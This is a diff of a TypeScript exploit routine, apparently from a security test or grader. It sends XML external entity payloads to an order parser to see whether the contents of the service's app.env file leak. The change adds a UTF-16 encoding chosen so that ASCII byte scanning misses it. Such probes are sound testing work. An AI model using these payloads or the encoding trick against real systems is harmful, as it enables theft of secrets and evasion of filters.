@@ -40,10 +40,10 @@ export function exploit({ readOrder }: Code, vary: Vary): false | Breach {
       `<!DOCTYPE order\n[<!ENTITY y SYSTEM "${address}"><!ENTITY x "&y;">]>${order('&x;')}`,
     ]
     for (const attack of attacks) {
-      for (const body of [Buffer.from(attack), Buffer.from(`\uFEFF${attack}`, 'utf16le')]) {
+      for (const [encoding, body] of [['UTF-8', Buffer.from(attack)], ['UTF-16, so a search for bytes of ASCII does not find it', Buffer.from(`\uFEFF${attack}`, 'utf16le')]] as const) {
         try {
           const { note } = readOrder(body, 1, log)
-          if (note.includes(secret)) return { sent: attack, got: `the note "${note}"` }
+          if (note.includes(secret)) return { sent: `${attack} (encoded in ${encoding})`, got: `the note "${note}": the content of the service's file app.env` }
         } catch {
           // Refused; the next form may be not.
         }
